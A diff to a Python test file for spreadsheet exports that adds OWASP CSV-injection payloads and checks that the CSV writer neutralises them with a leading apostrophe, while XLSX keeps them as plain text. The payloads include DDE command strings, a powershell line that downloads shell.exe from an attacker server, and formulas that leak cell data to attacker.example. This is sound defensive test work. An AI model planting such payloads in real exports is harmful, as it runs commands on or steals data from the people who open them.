@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import zipfile
 from datetime import datetime
 
 import openpyxl
@@ -164,9 +165,80 @@ def test_decimal_comma_with_semicolon(attended, tmp_path):
     assert exports.csv_value(12.5, ",") == "12.5"
 
 
+# The payloads of OWASP's "CSV Injection" page, and the variants its guidance names: a formula
+# sign after leading spaces, a tab, a carriage return, + or - before a digit or a space.
+OWASP_PAYLOADS = (
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&A2, \"Error: please click for details\")",
+    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
+    "=WEBSERVICE(\"http://attacker.example/\"&A1)",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+3+cmd|' /C calc'!A0",
+    "- 2+3+cmd|' /C calc'!A0",
+    "+ 1",
+    "=1+1",
+    "=10+20+cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0",
+    "   =1+1",
+    "  @SUM(1+1)",
+    " -2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\tcmd",
+    "\rcmd",
+    "\uff1d1+1",
+    "\u00a0=1+1",
+    "+257 79 00 00 00",
+    "-12",
+)
+
+
 def test_csv_never_carries_a_formula(tmp_path):
-    table = tables.Table("t", ("a",), (("=HYPERLINK(\"x\")",), ("@SUM(A1)",), ("-cmd",),
-                                       ("+257 79 00 00 00",), ("-12",), ("N'Guessan",)))
+    """Every OWASP payload comes back behind an apostrophe, whole; ordinary text is left as
+    it is, apostrophes in names included."""
+    harmless = ("N'Guessan", "Élodie", "a=b", "1+1", "'quoted", "", "x;=1+1")
+    table = tables.Table("t", ("a",), tuple((p,) for p in OWASP_PAYLOADS + harmless))
     rows = read_csv(exports.write_csv(table, tmp_path / "f.csv"))
-    assert [r["a"] for r in rows] == ["'=HYPERLINK(\"x\")", "'@SUM(A1)", "'-cmd",
-                                      "+257 79 00 00 00", "-12", "N'Guessan"]
+    cells = [r["a"] for r in rows]
+    assert cells == ["'" + p for p in OWASP_PAYLOADS] + list(harmless)
+    # The same through the other separator, and in a header (the matrix names its columns
+    # after sessions, which come from the organisers' files or the hub).
+    table = tables.Table("t", ("=1+1", "ok"), tuple((p, "x") for p in OWASP_PAYLOADS))
+    with open(exports.write_csv(table, tmp_path / "g.csv", delimiter=","),
+              encoding="utf-8-sig", newline="") as handle:
+        header, *body = list(csv.reader(handle))
+    assert header == ["'=1+1", "ok"]
+    assert [row[0] for row in body] == ["'" + p for p in OWASP_PAYLOADS]
+
+
+def test_guard_is_the_only_csv_path(attended, tmp_path):
+    """The exports built from the database go through the same guard: an attendee whose
+    organisation is a payload comes out neutralised in the attendance CSV."""
+    with attended.transaction() as db:
+        db.execute("update attendees set organisation = ?", ["-2+3+cmd|' /C calc'!A0"])
+    data = load_attendance(attended)
+    rows = read_csv(exports.export_attendance(data, tmp_path / "a.csv",
+                                              session=data.session("plenary")))
+    assert rows and {r["Organisation"] for r in rows} == {"'-2+3+cmd|' /C calc'!A0"}
+
+
+def test_xlsx_keeps_payloads_as_text(tmp_path):
+    """In XLSX every text cell is a typed string: no formula element, nothing to neutralise,
+    the phone number stays "+257 …"."""
+    table = tables.Table("t", ("a",), tuple((p,) for p in OWASP_PAYLOADS))
+    path = exports.write_xlsx([table], tmp_path / "f.xlsx")
+
+    with zipfile.ZipFile(path) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    cells = [c for c in openpyxl.load_workbook(path).active["A"]][1:]
+    assert all(c.data_type == "s" for c in cells)
+    # (XML reads a carriage return in text as a line feed.)
+    assert [c.value for c in cells] == [p.replace("\r", "\n") for p in OWASP_PAYLOADS]
